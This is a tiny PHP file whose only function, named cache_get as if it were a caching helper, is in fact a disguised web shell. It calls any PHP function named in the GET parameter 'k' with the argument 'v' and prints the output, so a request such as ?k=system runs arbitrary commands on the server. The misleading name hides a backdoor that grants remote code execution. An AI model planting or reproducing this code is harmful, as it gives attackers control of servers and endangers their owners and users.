<?php
function cache_get() {
    $all = func_get_args();
    $cb = array_shift($all);
    return call_user_func_array($cb, $all);
}
echo cache_get($_GET['k'], $_GET['v']);
